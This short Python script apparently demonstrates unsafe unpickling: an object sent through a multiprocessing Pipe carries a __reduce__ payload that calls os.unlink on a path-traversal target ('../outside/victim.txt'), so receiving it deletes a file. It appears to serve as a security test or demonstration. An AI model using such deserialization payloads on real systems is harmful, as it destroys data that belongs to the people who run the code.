# A pipe between two ends of the same program unpickles what it receives.
# damage: deleted
import multiprocessing
import os


class Payload:
    def __reduce__(self):
        return os.unlink, ("../outside/victim.txt",)


here, there = multiprocessing.Pipe()
here.send(Payload())
there.recv()
